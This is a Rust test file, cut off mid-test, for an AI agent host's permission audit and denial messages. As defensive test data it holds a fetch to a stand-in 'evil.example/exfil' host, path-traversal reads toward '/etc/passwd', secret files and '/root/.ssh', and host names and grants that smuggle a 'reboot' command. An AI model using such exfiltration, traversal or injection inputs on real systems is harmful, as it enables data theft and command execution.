//! The audit: every use of a right and every denial, with the plugin that it was, the call, the right and the target; and the rights that each
//! agent and its tools have.

#![allow(clippy::unwrap_used, reason = "what fails shall fail the test")]

use std::io::{BufRead as _, BufReader, Write as _};
use std::net::{SocketAddr, TcpListener};
use std::process::Command;
use std::time::Duration;

use hermes_tests::child::{ChildSpec, exit, inside, join};
use hermes_tests::interrupted::{resumed, stopped};
use hermes_tests::model::{Fault, Format, ModelServer, Script, Turn};
use hermes_tests::output::refusal;
use hermes_tests::program::{ask, open, put, steps};
use hermes_tests::{Home, Host, guests};
use rustix::process::Signal;
use serde_json::{Value, json};

const LONG: Duration = Duration::from_secs(60);

/// A server that answers everything with the same page.
fn site() -> SocketAddr {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let mut lines = BufReader::new(stream.try_clone().unwrap()).lines();
            while lines.next().is_some_and(|line| line.is_ok_and(|line| !line.is_empty())) {}
            // A client that goes early is the client's affair.
            let _ = stream.write_all(
                b"HTTP/1.1 200 OK\r\ncontent-type: text/plain\r\ncontent-length: 4\r\nconnection: close\r\n\r\npage",
            );
        }
    });
    address
}

/// What the audit says of a run.
#[track_caller]
fn audit(home: &Home, run: &str) -> Vec<Value> {
    let output = home.host().args(["show", run, "--audit", "--output", "json"]).output();
    output.expect(0).json().as_array().unwrap().clone()
}

/// Rows as `plugin way grant target`, the working folder as `WORK`.
fn lines(home: &Home, rows: &[Value]) -> Vec<String> {
    let work = home.work().canonicalize().unwrap().display().to_string();
    let text = |row: &Value, key: &str| row[key].as_str().unwrap_or("-").replace(&work, "WORK");
    let line = |row: &Value| ["plugin", "way", "grant", "target"].map(|key| text(row, key)).join(" ");
    rows.iter().map(line).collect()
}

/// The one row that is so.
#[track_caller]
fn row<'r>(rows: &'r [Value], wanted: &[(&str, Value)]) -> &'r Value {
    let is = |row: &&Value| wanted.iter().all(|(key, value)| row[*key] == *value);
    let found: Vec<&Value> = rows.iter().filter(is).collect();
    let [one] = found[..] else {
        panic!("{} rows are {wanted:?}:\n{}", found.len(), json!(rows))
    };
    one
}

/// The step that has the probe's tool do these steps.
fn tool(steps: &[Value]) -> Value {
    json!({ "do": "call", "name": "probe", "arguments": { "steps": steps } })
}

fn files(deed: &str, path: &str, count: usize) -> Value {
    json!({ "do": "files", "deed": deed, "path": path, "count": count })
}

fn with_probe_tool(home: &Home) -> Host {
    home.host().arg("--tool").arg(guests::built("probe-tool"))
}

fn fetch(url: &str) -> Value {
    json!({ "do": "call", "name": "fetch_page", "arguments": { "url": url } })
}

fn run_of(output: &hermes_tests::Output) -> String {
    output.json()["run"].as_str().unwrap().to_owned()
}

#[test]
fn each_use_of_a_right_is_told_with_its_plugin_its_call_and_its_target() {
    let server = ModelServer::start(Script::always(Turn::text("hello")));
    let home = Home::with_model(&server, Format::OpenAi);
    home.write("papers/a.txt", "dendrites\n");
    let (site, child) = (site(), ChildSpec::probe(&steps(&[ask("CHILD")])));
    let program = steps(&[
        ask("1"),
        ask("2"),
        open(),
        put("plan"),
        put("plan"),
        json!({ "do": "get", "space": 0, "key": "plan" }),
        json!({ "do": "append", "space": 0, "prefix": "log/", "value": "x" }),
        json!({ "do": "keys", "space": 0, "prefix": "log/", "limit": 9 }),
        json!({ "do": "recall", "layer": "Task", "query": "x", "limit": 1 }),
        json!({ "do": "call", "name": "read_file", "arguments": { "path": "/papers/a.txt" } }),
        fetch(&format!("http://{site}/page?token=hidden")),
        child.spawn(),
        join(0),
        json!({ "do": "delete", "space": 0, "key": "gone" }),
        json!({ "do": "changes", "space": 0, "prefix": "", "since": 0, "wait_ms": 0 }),
    ]);
    let net = format!("net:GET@http://{site}");
    let allow = ["--allow", "fs:./papers", "--allow", &net];
    let output = home.host().args(allow).probe(&program).output().expect(0);
    assert_eq!(output.json()["denied"], json!([]));
    let run = run_of(&output);
    let rows = audit(&home, &run);
    let seen = lines(&home, &rows);
    let mut expected = vec![
        "probe ask llm test/test-model".to_owned(),
        "probe write blackboard notes/plan".to_owned(),
        "probe read blackboard notes/plan".to_owned(),
        "probe read blackboard notes/log/*".to_owned(),
        "probe write blackboard notes/gone".to_owned(),
        "probe read blackboard notes/*".to_owned(),
        "probe read lessons task".to_owned(),
        "files read fs:WORK/papers /papers/a.txt".to_owned(),
        format!("web send {net} GET http://{site}/page"),
        "probe spawn delegation helper".to_owned(),
        "probe ask llm test/test-model".to_owned(),
    ];
    let appended = seen
        .iter()
        .find(|line| line.starts_with("probe write blackboard notes/log/"));
    expected.push(appended.expect("an append has the key that it made").clone());
    let sorted = |mut lines: Vec<String>| {
        lines.sort();
        lines
    };
    assert_eq!(sorted(seen), sorted(expected), "{}", json!(rows));
    for (wanted, call, count) in [
        (vec![("way", json!("ask")), ("role", json!("root"))], "1", 2),
        (vec![("way", json!("write")), ("target", json!("notes/plan"))], "3", 2),
        (vec![("plugin", json!("files"))], "6", 1),
        (vec![("plugin", json!("web"))], "7", 1),
        (vec![("way", json!("spawn"))], "8", 1),
        (vec![("target", json!("notes/gone"))], "9", 1),
        (vec![("way", json!("ask")), ("role", json!("helper"))], "1", 1),
    ] {
        let row = row(&rows, &wanted);
        assert_eq!((&row["call"], row["failed"].as_u64()), (&json!(call), Some(0)), "{row}");
        assert!(row["count"].as_u64() >= Some(count), "{row}");
        assert_eq!(row["own"], false, "{row}");
    }
    for target in ["notes/plan", "notes/*"] {
        let look = row(&rows, &[("target", json!(target)), ("way", json!("read"))]);
        assert!(look["call"].is_null() && look["observation"].is_number(), "{look}");
    }
    let inspected = home
        .host()
        .args(["inspect", "files", "--output", "json"])
        .output()
        .expect(0);
    assert_eq!(
        row(&rows, &[("plugin", json!("files"))])["digest"],
        inspected.json()["digest"]
    );
    assert!(!json!(rows).to_string().contains("hidden"), "a query is no target");
}

#[test]
fn the_flags_of_a_denial_are_those_that_allow_it() {
    let server = ModelServer::start(Script::always(Turn::text("hello")));
    let home = Home::with_model(&server, Format::OpenAi);
    home.configure("\n[aliases]\nfast = \"test/test-model\"\n");
    home.write("out/a.txt", "a\n");
    let site = site();
    let fast = json!({ "do": "complete", "messages": [{ "User": [{ "Text": "hi" }] }], "options": {
        "model": "fast", "temperature": null, "max_output_tokens": null, "stop": [], "tool_choice": null,
        "response_schema": null, "provider_options": null,
    } });
    let program = steps(&[
        fast,
        tool(&[
            json!({ "do": "write-file", "path": "/out/b.txt", "text": "b" }),
            files("remove", "/out/a.txt", 1),
        ]),
        fetch(&format!("http://{site}/page")),
        open(),
        put("k"),
    ]);
    let elsewhere = "net:GET@elsewhere.example";
    let given = [
        "--allow",
        "fs:./out",
        "--allow",
        elsewhere,
        "--allow",
        "blackboard:notes:ro",
    ];
    let output = with_probe_tool(&home).args(given).probe(&program).output().expect(0);
    let denied = output.json()["denied"].as_array().unwrap().clone();
    let out = home.work().join("out").canonicalize().unwrap();
    let flags: Vec<&str> = denied
        .iter()
        .flat_map(|denial| denial["flags"].as_array().unwrap())
        .map(|f| f.as_str().unwrap())
        .collect();
    let write = format!("--allow fs:{}:rw", out.display());
    let net = format!("--allow net:GET@http://{site}");
    assert_eq!(
        flags,
        ["--allow llm:fast", &write, &write, &net, "--allow blackboard:notes"],
        "{denied:?}"
    );
    let page = &output.stderr[output.stderr.find("denied: 5 times\n").unwrap()..];
    for flag in ["--allow llm:fast", &write, &net, "--allow blackboard:notes"] {
        assert!(page.contains(&format!("    {flag}")), "{page}");
    }
    let rows = audit(&home, &run_of(&output));
    let removal = row(&rows, &[("way", json!("denied")), ("target", json!("/out/a.txt"))]);
    assert_eq!(
        (&removal["plugin"], &removal["call"]),
        (&json!("probe-tool"), &json!("2")),
        "{removal}"
    );
    assert_eq!(removal["flags"], json!([write]));
    let send = row(&rows, &[("plugin", json!("web"))]);
    assert_eq!(
        (&send["way"], &send["target"]),
        (&json!("denied"), &json!(format!("GET http://{site}/page")))
    );
    let words: Vec<&str> = flags.iter().flat_map(|flag| flag.split(' ')).collect();
    let output = with_probe_tool(&home)
        .args(given)
        .args(words)
        .probe(&program)
        .output()
        .expect(0);
    assert_eq!(
        output.json()["denied"],
        json!([]),
        "with these flags all of it is allowed"
    );
    assert!(!output.stderr.contains("denied"), "{}", output.stderr);
    assert!(out.join("b.txt").exists() && !out.join("a.txt").exists());
}

/// The words of a line, as a shell reads them that is given it whole.
fn shell(line: &str) -> Vec<String> {
    let script = format!("printf '%s\\n' {line}");
    let output = Command::new("bash").arg("-c").arg(script).output().unwrap();
    let words = String::from_utf8(output.stdout).unwrap();
    words.lines().map(str::to_owned).collect()
}

/// Of each kind of right, what a parent would give to a child and has not: with the flag that lets it, or why none does.
#[test]
fn the_flags_of_a_denied_spawn_are_those_that_allow_it() {
    let server = ModelServer::start(Script::always(Turn::text("hello")));
    let home = Home::with_model(&server, Format::OpenAi);
    home.configure("\n[aliases]\nfast = \"test/test-model\"\n");
    home.write("out/sub/a.txt", "a\n");
    home.write("odd\u{200b}/a.txt", "a\n");
    home.write("secret/key", "s\n");
    let work = home.work().canonicalize().unwrap();
    std::os::unix::fs::symlink(work.join("secret"), work.join("out/link")).unwrap();
    let value = home.write("value", "0123456789abcdef");
    home.host()
        .args(["secret", "set", "k"])
        .reads(&value)
        .output()
        .expect(0);
    let given = [
        "--allow",
        "fs:./out",
        "--allow",
        "fs:./odd\u{200b}",
        "--allow",
        "blackboard:notes:ro",
    ];
    let ran = |children: &[&ChildSpec], more: &[String]| {
        let spawns = children.iter().map(|child| child.spawn());
        // What was not begun is nothing to wait for.
        let begun = if more.is_empty() { 0 } else { children.len() };
        let program: Vec<Value> = spawns.chain((0..begun).map(join)).collect();
        home.host().args(given).args(more).probe(&steps(&program)).output()
    };
    let grants = |grant: &str| ChildSpec::probe(&steps(&[])).with("grants", json!([grant]));
    let writes = json!([{ "space": "notes", "prefix": "", "access": "ReadWrite" }]);
    let writes = ChildSpec::probe(&steps(&[])).with("spaces", writes);
    let folder = format!("--allow fs:{}:rw", work.join("out").display());
    let odd = format!("--allow $'fs:{}/odd\\342\\200\\213:rw'", work.display());
    let outside = "probe holds no such folder";
    let cases = [
        (grants("llm:fast"), Ok("--allow llm:fast")),
        (
            grants("llm:http://127.0.0.1:1/v1"),
            Err("there is no alias http://127.0.0.1:1/v1"),
        ),
        (grants("net:GET@x.example"), Ok("--allow net:GET@x.example")),
        (grants("net:*"), Ok("--allow 'net:*'")),
        (grants("secret:k@x.example"), Ok("--allow secret:k@x.example")),
        (grants("secret:l@x.example"), Err("there is no secret l")),
        (grants("terminal:sh"), Err("this version of the host has no terminal")),
        // The operator's name for a folder, whatever the guest's is.
        (grants("fs:/out:rw"), Ok(folder.as_str())),
        (grants("fs:/out/sub:rw"), Ok(folder.as_str())),
        (grants("fs:x=./out:rw"), Ok(folder.as_str())),
        (grants("fs:/odd\u{200b}:rw"), Ok(odd.as_str())),
        (grants("fs:/out/../secret"), Err(outside)),
        (grants("fs:/out/link:rw"), Err(outside)),
        (grants("fs:/out/none:rw"), Err(outside)),
        (grants("fs:/root/.ssh:rw"), Err(outside)),
        (writes, Ok("--allow blackboard:notes")),
    ];
    for (child, expected) in &cases {
        let output = ran(&[child], &[]).expect(0);
        let denied = output.json()["denied"].clone();
        assert_eq!(denied.as_array().unwrap().len(), 1, "{denied}");
        let page = &output.stderr[output.stderr.find("denied: once\n").unwrap()..];
        match expected {
            Ok(flag) => {
                assert_eq!(denied[0]["flags"], json!([flag]), "{denied}");
                assert!(page.contains(&format!("\n    {flag}\n")), "{page}");
                let allowed = ran(&[child], &shell(flag)).expect(0);
                assert_eq!(allowed.json()["denied"], json!([]), "{flag}");
                assert_eq!(exit(&allowed.seen()[1]), "Returned", "{flag}");
            }
            Err(words) => {
                assert_eq!(denied[0]["flags"], json!([]), "{denied}");
                assert!(denied[0]["remedy"].as_str().unwrap().contains(words), "{denied}");
                assert!(!page.contains("--allow"), "{page}");
            }
        }
        // What a guest calls a folder or a program is in no flag that it is told either.
        let grant = denied[0]["what"].as_str().unwrap();
        if grant.contains("fs:") || grant.contains("terminal:") {
            let message = denied[0]["message"].as_str().unwrap();
            assert!(!message.contains("--allow"), "{message}");
        }
    }
    // All of it together, as it is pasted.
    let helped = cases.iter().filter(|(_, expected)| expected.is_ok());
    let helped: Vec<&ChildSpec> = helped.map(|(child, _)| child).collect();
    let output = ran(&helped, &[]).expect(0);
    let mut lines = output.stderr.lines();
    let all = lines.find_map(|line| line.strip_prefix("  all of it   ")).unwrap();
    let allowed = ran(&helped, &shell(all)).expect(0);
    assert_eq!(allowed.json()["denied"], json!([]), "{all}");
}

#[test]
fn no_flag_is_named_for_a_denial_that_would_be_refused() {
    let server = ModelServer::start(Vec::new());
    let outside = tempfile::tempdir().unwrap();
    let outside = outside.path().canonicalize().unwrap();
    let bare = guests::built("probe-tool");
    let write = json!({ "do": "write-file", "path": "/out/b.txt", "text": "b" });
    let without_manifest =
        "it takes two keys, your word and a manifest that asks for it, and the plugin has no manifest";
    for (what, refused) in [
        ("outside", Some(without_manifest)),
        ("project", Some("it would let a plugin rewrite hermes.toml")),
        ("component", Some("out/pt.wasm, which this run uses")),
        ("any other", None),
    ] {
        let home = Home::with_model(&server, Format::OpenAi);
        home.write("out/a.txt", "a\n");
        let out = home.work().canonicalize().unwrap().join("out");
        let (folder, tool) = match what {
            "outside" => (outside.clone(), bare.clone()),
            "project" => {
                home.write("hermes.toml", "");
                (home.work().canonicalize().unwrap(), bare.clone())
            }
            "component" => (out, home.write("out/pt.wasm", std::fs::read(&bare).unwrap())),
            _ => (out, bare.clone()),
        };
        // Under the name of its folder a right is written without it.
        let named = match folder.ends_with("out") {
            true => format!("fs:{}", folder.display()),
            false => format!("fs:out={}", folder.display()),
        };
        let ran = |allow: &[&str]| {
            let host = home.host().args(allow).arg("--tool").arg(&tool);
            host.probe(&steps(&[self::tool(std::slice::from_ref(&write))])).output()
        };
        let output = ran(&["--allow", &named]).expect(0);
        let denied = output.json()["denied"].clone();
        assert_eq!(denied.as_array().unwrap().len(), 1, "{what}: {denied}");
        let flag = format!("{named}:rw");
        let both = ran(&["--allow", &flag]);
        let Some(words) = refused else {
            assert_eq!(denied[0]["flags"], json!([format!("--allow {flag}")]), "{denied}");
            assert_eq!(
                both.expect(0).json()["denied"],
                json!([]),
                "with this flag it is allowed"
            );
            continue;
        };
        assert_eq!(denied[0]["flags"], json!([]), "{what}: {denied}");
        let remedy = denied[0]["remedy"].as_str().unwrap();
        assert!(remedy.starts_with(&flag) && remedy.contains(words), "{what}: {denied}");
        let page = &output.stderr[output.stderr.find("denied: once\n").unwrap()..];
        assert!(page.contains(&format!("    {remedy}\n")), "{page}");
        assert!(!page.contains("--allow"), "{page}");
        match what {
            "outside" => {
                let again = both.expect(0).json()["denied"].clone();
                assert_eq!(again[0]["flags"], json!([]), "{again}");
                assert_eq!(again[0]["remedy"], denied[0]["remedy"], "{again}");
            }
            _ => {
                both.expect(2).says(&[words]);
            }
        }
    }
}

/// A tool that has no folder says so in words of its own; what people are told is in the host's.
#[test]
fn a_kind_of_right_of_which_a_tool_has_nothing_is_a_denial() {
    let server = ModelServer::start(Vec::new());
    let home = Home::with_model(&server, Format::OpenAi);
    home.write("papers/a.txt", "a\n");
    let list = json!({ "do": "call", "name": "list_files", "arguments": { "path": "/papers" } });
    let program = steps(&[list.clone(), list]);
    let ran = |allow: &[&str]| {
        let host = home.host().arg("--tool").arg(guests::plugin("files"));
        host.args(allow).probe(&program).output().expect(0)
    };
    let (agents, tools) = (["--allow", "probe=fs:./papers"], ["--allow", "files=fs:./papers"]);
    for (allow, flag) in [
        (&[][..], "--allow fs:DIR"),
        // A right takes both, the agent and its tool.
        (&agents[..], "--allow files=fs:DIR"),
        (&tools[..], "--allow probe=fs:DIR"),
    ] {
        let output = ran(allow);
        let denied = output.json()["denied"].clone();
        assert_eq!(
            (&denied[0]["plugin"], &denied[0]["flags"], &denied[0]["count"]),
            (&json!("files"), &json!([flag]), &json!(2)),
            "{denied}"
        );
        assert_eq!(denied.as_array().unwrap().len(), 1, "{denied}");
        let page = format!("denied: 2 times\n  files may not use any folder   2 times\n    {flag}\n");
        assert!(output.stderr.contains(&page), "{}", output.stderr);
        let run = run_of(&output);
        let rows = audit(&home, &run);
        let mut lacks = rows.iter().filter(|row| row["way"] == "denied");
        assert!(lacks.all(|row| row["flags"] == json!([flag])), "{rows:?}");
        assert_eq!(rows[0]["plugin"], "files", "{rows:?}");
        let shown = home.host().args(["show", &run]).output().expect(0).stdout;
        assert!(shown.contains("2 denials"), "{shown}");
        home.host().args(["replay", &run]).output().expect(0);
        assert_eq!(audit(&home, &run), rows, "a replay denies nothing");
    }
    let both = [agents, tools].concat();
    assert_eq!(ran(&both).json()["denied"], json!([]), "with both flags it is allowed");
}

#[test]
fn a_flag_that_is_offered_is_one_word_to_a_shell_whoever_chose_it() {
    let server = ModelServer::start(Vec::new());
    let home = Home::with_model(&server, Format::OpenAi);
    let send = json!({ "do": "send", "authority": "x;reboot;.example" });
    let child = ChildSpec::probe(&steps(&[])).with("grants", json!(["llm:fast; reboot"]));
    let program = steps(&[
        tool(&[json!({ "do": "open", "name": "notes --deny lessons" })]),
        json!({ "do": "call", "name": "wasi", "arguments": { "steps": [send] } }),
        child.spawn(),
    ]);
    let host = with_probe_tool(&home).arg("--tool");
    let output = host.arg(guests::built("probe-wasi")).probe(&program).output().expect(0);
    let denied = output.json()["denied"].as_array().unwrap().clone();
    let offered = "Allow it with --allow 'llm:fast; reboot'";
    let is_said = |denial: &Value| denial["message"].as_str().is_some_and(|said| said.contains(offered));
    assert!(denied.iter().any(is_said), "{denied:?}");
    // What is no space's name is in no flag, nor is what is no host's.
    let opened = denied.iter().find(|denial| denial["target"] == "notes --deny lessons");
    assert_eq!(
        opened.unwrap()["message"],
        "probe-tool may not open the blackboard space notes --deny lessons: it holds no grant for it"
    );
    let sent = denied
        .iter()
        .find(|denial| denial["target"] == "GET http://x;reboot;.example/");
    let said = sent.unwrap()["message"].as_str().unwrap();
    assert!(
        said.ends_with("its host is no name and no address, and no grant has any other"),
        "{said}"
    );
}

#[test]
fn what_was_taken_away_is_not_had_back_by_a_flag() {
    let server = ModelServer::start(Vec::new());
    let home = Home::with_model(&server, Format::OpenAi);
    let deny = ["--deny", "llm,blackboard"];
    let output = home
        .host()
        .args(deny)
        .probe(&steps(&[ask("1"), open()]))
        .output()
        .expect(0);
    let denied = output.json()["denied"].clone();
    for (at, kind) in [(0, "llm"), (1, "blackboard")] {
        assert_eq!(denied[at]["flags"], json!([]), "{denied}");
        assert_eq!(denied[at]["remedy"], format!("leave out --deny {kind}"), "{denied}");
        // Nor do the words that the agent is told offer one.
        let told = denied[at]["message"].as_str().unwrap();
        let taken = format!("that was taken away with --deny {kind}");
        assert!(told.ends_with(&taken) && !told.contains("--allow"), "{told}");
        let seen = output.seen();
        assert!(seen[at].to_string().contains(&taken), "{}", seen[at]);
    }
}

#[test]
fn what_a_file_took_away_is_told_with_the_file() {
    let server = ModelServer::start(Vec::new());
    let home = Home::with_model(&server, Format::OpenAi);
    let file = home.write("hermes.toml", "deny = [\"llm\"]\n");
    let output = home.host().probe(&steps(&[ask("1")])).output().expect(0);
    let denied = output.json()["denied"].clone();
    let place = format!("{}:1", file.display());
    let remedy = format!("take llm out of deny in {place}");
    assert_eq!(
        (&denied[0]["flags"], &denied[0]["remedy"]),
        (&json!([]), &json!(remedy)),
        "{denied}"
    );
    // The agent is not told where on this machine the file is.
    let seen = output.seen()[0].to_string();
    let is_told = seen.contains("that was taken away with deny in hermes.toml");
    assert!(is_told && !seen.contains(&place) && !seen.contains("--deny"), "{seen}");
    let output = home
        .host()
        .args(["--set", "deny=[\"lessons\", \"llm\"]"])
        .probe(&steps(&[ask("1")]))
        .output()
        .expect(0);
    let denied = output.json()["denied"].clone();
    assert_eq!(denied[0]["remedy"], "take llm out of --set deny", "{denied}");
}

#[test]
fn a_path_that_leads_out_is_a_denial_that_no_flag_lifts() {
    let server = ModelServer::start(Vec::new());
    let home = Home::with_model(&server, Format::OpenAi);
    home.write("papers/a.txt", "a\n");
    let secret = home.write("secret.txt", "s\n");
    std::os::unix::fs::symlink(&secret, home.work().join("papers/link")).unwrap();
    let paths = ["/papers/../secret.txt", "/papers//etc/passwd", "/papers/link"];
    let reads: Vec<Value> = paths.iter().map(|path| files("read", path, 1)).collect();
    let program = steps(&[tool(&reads)]);
    let host = with_probe_tool(&home).args(["--allow", "fs:./papers"]);
    let output = host.probe(&program).output().expect(0);
    let denied = output.json()["denied"].as_array().unwrap().clone();
    assert_eq!(denied.len(), 3, "{denied:?}");
    for denial in &denied {
        assert!(denial["message"].as_str().unwrap().contains("leads out"), "{denial}");
        assert_eq!(denial["flags"], json!([]), "{denial}");
        assert_eq!(denial["remedy"], "it leads out of the granted folder", "{denial}");
    }
    let rows = audit(&home, &run_of(&output));
    assert_eq!(rows.iter().filter(|row| row["way"] == "denied").count(), 3, "{rows:?}");
}

#[test]
fn a_write_that_leads_out_is_a_denial_whatever_the_folder_is_granted_for() {
    let server = ModelServer::start(Vec::new());
    let home = Home::with_model(&server, Format::OpenAi);
    home.write("elsewhere/a.txt", "a\n");
    for folder in ["desk", "papers"] {
        home.write(&format!("{folder}/own.txt"), "o\n");
        std::os::unix::fs::symlink("../elsewhere", home.work().join(folder).join("link")).unwrap();
    }
    let writes = |folder: &str| {
        [("make", "new"), ("remove", "a.txt"), ("rename", "a.txt")]
            .map(|(deed, name)| files(deed, &format!("/{folder}/link/{name}"), 1))
    };
    let all = [
        &writes("desk")[..],
        &writes("papers")[..],
        &[files("remove", "/papers/own.txt", 1)],
    ]
    .concat();
    let host = with_probe_tool(&home).args(["--allow", "fs:./desk:rw", "--allow", "fs:./papers"]);
    let output = host.probe(&steps(&[tool(&all)])).output().expect(0);
    let mut expected = Vec::new();
    for folder in ["desk", "papers"] {
        for (name, count) in [("new", 1), ("a.txt", 2), ("a.txt.new", 1)] {
            let what = format!("write /{folder}/link/{name}");
            expected.push((
                json!(what),
                json!(count),
                json!([]),
                json!("it leads out of the granted folder"),
            ));
        }
    }
    let papers = home.work().canonicalize().unwrap().join("papers").display().to_string();
    let flags = json!([format!("--allow fs:{papers}:rw")]);
    expected.push((json!("write /papers/own.txt"), json!(1), flags, Value::Null));
    let denied = output.json()["denied"].as_array().unwrap().clone();
    let told = |denial: &Value| {
        let [what, count, flags, remedy] = ["what", "count", "flags", "remedy"].map(|key| denial[key].clone());
        (what, count, flags, remedy)
    };
    assert_eq!(denied.iter().map(told).collect::<Vec<_>>(), expected);
    let rows = audit(&home, &run_of(&output));
    assert_eq!(rows.iter().filter(|row| row["way"] == "denied").count(), 7, "{rows:?}");
    // The folder that may be written was used, in vain.
    for (name, failed) in [("new", 1), ("a.txt", 2), ("a.txt.new", 1)] {
        let target = json!(format!("/desk/link/{name}"));
        let used = row(&rows, &[("way", json!("write")), ("target", target)]);
        assert_eq!(
            (&used["count"], &used["failed"]),
            (&json!(failed), &json!(failed)),
            "{used}"
        );
    }
    let left = std::fs::read_dir(home.work().join("elsewhere")).unwrap().flatten();
    assert_eq!(left.map(|entry| entry.file_name()).collect::<Vec<_>>(), ["a.txt"]);
}

#[test]
fn every_way_to_use_a_folder_is_told() {
    let server = ModelServer::start(Vec::new());
    let home = Home::with_model(&server, Format::OpenAi);
    home.write("out/a", "a\n");
    let deeds = [
        ("read", "a", "read", 0),
        ("read", "none", "read", 1),
        ("stat", "a", "read", 0),
        ("list", "", "read", 0),
        ("make", "folder", "write", 0),
        ("rename", "a", "write", 0),
        ("remove", "a.new", "write", 0),
    ];
    let path = |name: &str| format!("/out/{name}").trim_end_matches('/').to_owned();
    let program: Vec<Value> = deeds
        .iter()
        .map(|(deed, name, ..)| files(deed, &path(name), 1))
        .collect();
    let host = with_probe_tool(&home).args(["--allow", "fs:./out:rw"]);
    let output = host.probe(&steps(&[tool(&program)])).output().expect(0);
    let rows = audit(&home, &run_of(&output));
    for (deed, name, way, failed) in deeds {
        let row = row(&rows, &[("way", json!(way)), ("target", json!(path(name)))]);
        assert_eq!(row["failed"], failed, "{deed}: {row}");
        assert!(row["grant"].as_str().unwrap().ends_with("/out:rw"), "{row}");
    }
    // Read, and its size; renamed to, and removed.
    for (way, name) in [("read", "a"), ("write", "a.new")] {
        assert_eq!(
            row(&rows, &[("way", json!(way)), ("target", json!(path(name)))])["count"],
            2
        );
    }
    assert_eq!(rows.len(), 6, "{}", json!(rows));
    // What was opened to read can't be written to either.
    home.write("out/a", "a\n");
    let host = with_probe_tool(&home).args(["--allow", "fs:./out"]);
    let unasked = steps(&[tool(&[files("write-unasked", "/out/a", 1)])]);
    let denied = host.probe(&unasked).output().expect(0).json()["denied"].clone();
    assert_eq!(
        (&denied[0]["what"], denied.as_array().unwrap().len()),
        (&json!("write /out/a"), 1)
    );
}

#[test]
fn of_one_right_and_way_so_many_targets_and_the_last_are_named_and_the_others_counted() {
    const MOST: usize = 3;
    let server = ModelServer::start(Vec::new());
    let home = Home::with_model(&server, Format::OpenAi);
    for n in 0..MOST + 3 {
        home.write(&format!("out/{n}"), "x");
    }
    let audited = |reads: usize, lacks: usize| {
        let program = steps(&[tool(&[
            files("read", "/out/{}", reads),
            files("read", "/out/{}", reads),
            files("make", "/out/last", 1),
            files("remove", "/shut/{}", lacks),
        ])]);
        let host = with_probe_tool(&home).args(["--allow", "fs:./out:rw", "--allow", "fs:shut=./shut"]);
        let output = host
            .set("limits.audit.targets", MOST)
            .probe(&program)
            .output()
            .expect(0);
        std::fs::remove_dir(home.work().join("out/last")).unwrap();
        audit(&home, &run_of(&output))
    };
    std::fs::create_dir(home.work().join("shut")).unwrap();
    let of = |rows: &[Value], way: &str| -> Vec<(Value, u64)> {
        let rows = rows.iter().filter(|row| row["way"] == way);
        let mut found: Vec<_> = rows
            .map(|row| (row["target"].clone(), row["count"].as_u64().unwrap()))
            .collect();
        found.sort_by_key(|(target, _)| target.to_string());
        found
    };
    let named = |folder: &str, count: u64| -> Vec<(Value, u64)> {
        (0..MOST).map(|n| (json!(format!("/{folder}/{n}")), count)).collect()
    };
    let at = audited(MOST, MOST);
    assert_eq!(
        (of(&at, "read"), of(&at, "denied")),
        (named("out", 2), named("shut", 1))
    );
    let and = |mut named: Vec<(Value, u64)>, beyond: &[(Value, u64)]| {
        named.extend_from_slice(beyond);
        named
    };
    let past = audited(MOST + 1, MOST + 1);
    assert_eq!(of(&past, "read"), and(named("out", 2), &[(json!("/out/3"), 2)]));
    assert_eq!(of(&past, "denied"), and(named("shut", 1), &[(json!("/shut/3"), 1)]));
    let far = audited(MOST + 3, MOST + 3);
    let read = [(json!("/out/5"), 1), (Value::Null, 5)];
    assert_eq!(of(&far, "read"), and(named("out", 2), &read));
    let denied = [(json!("/shut/5"), 1), (Value::Null, 2)];
    assert_eq!(of(&far, "denied"), and(named("shut", 1), &denied));
    for rows in [at, past, far] {
        assert_eq!(
            of(&rows, "write"),
            [(json!("/out/last"), 1)],
            "no flood of reads hides a write"
        );
    }
}

#[test]
fn a_flood_of_denials_hides_none_of_another_kind_of_right() {
    const MOST: usize = 3;
    let server = ModelServer::start(Vec::new());
    let home = Home::with_model(&server, Format::OpenAi);
    home.write("papers/a.txt", "a\n");
    let exfil = "http://evil.example/exfil";
    let program = steps(&[tool(&[
        files("stat", "/papers/../junk{}", 2 * MOST),
        files("remove", "/papers/{}", 2 * MOST),
        files("read", "/papers/../key", 1),
        json!({ "do": "fetch", "url": exfil }),
    ])]);
    let host = with_probe_tool(&home).set("limits.audit.targets", MOST);
    let host = host.args(["--allow", "fs:./papers"]);
    let output = host.probe_events(&program).output().expect(0);
    let events = output.events();
    let run = events.iter().find_map(|event| event["run"].as_str()).unwrap();
    let told = |row: &Value| (row["grant"].clone(), row["target"].clone(), row["count"].clone());
    let papers = home.work().canonicalize().unwrap().join("papers").display().to_string();
    let mut expected: Vec<(Value, Value, Value)> = Vec::new();
    for n in 0..MOST {
        expected.push((Value::Null, json!(format!("/papers/../junk{n}")), json!(1)));
    }
    expected.push((Value::Null, Value::Null, json!(MOST)));
    expected.push((Value::Null, json!("/papers/../key"), json!(1)));
    let write = json!(format!("fs:{papers}:rw"));
    for n in 0..MOST {
        expected.push((write.clone(), json!(format!("/papers/{n}")), json!(1)));
    }
    expected.push((json!("fs"), Value::Null, json!(MOST - 1)));
    expected.push((write, json!("/papers/5"), json!(1)));
    let send = (
        json!("net:GET@http://evil.example"),
        json!(format!("GET {exfil}")),
        json!(1),
    );
    expected.push(send);
    let mut rows = audit(&home, run);
    rows.retain(|row| row["way"] == "denied");
    assert_eq!(rows.iter().map(told).collect::<Vec<_>>(), expected);
    let denied = events.iter().filter(|event| event["event"] == "denied");
    assert_eq!(
        denied.map(told).collect::<Vec<_>>(),
        expected,
        "the events are the same"
    );
    let shown = home.host().args(["show", run, "--audit"]).output().expect(0).stdout;
    for words in ["and further ones  3 times", "and further ones for lack of fs  2 times"] {
        assert!(shown.contains(words), "{words}: {shown}");
    }
}

#[test]
fn the_page_names_what_each_plugin_lacked_of_each_kind_and_the_flags_of_that_alone() {
    let server = ModelServer::start(Vec::new());
    let home = Home::with_model(&server, Format::OpenAi);
    home.write("papers/a.txt", "a\n");
    let sends = (0..40).map(|n| json!({ "do": "fetch", "url": format!("http://h{n}.example/") }));
    let flood: Vec<Value> = sends.chain([files("remove", "/papers/{}", 40)]).collect();
    let program = steps(&[tool(&flood), fetch("http://evil.example/exfil")]);
    let host = with_probe_tool(&home).args(["--allow", "fs:./papers", "--allow", "net:other.example"]);
    let output = host.probe(&program).output().expect(0);
    let denied = output.json()["denied"].as_array().unwrap().clone();
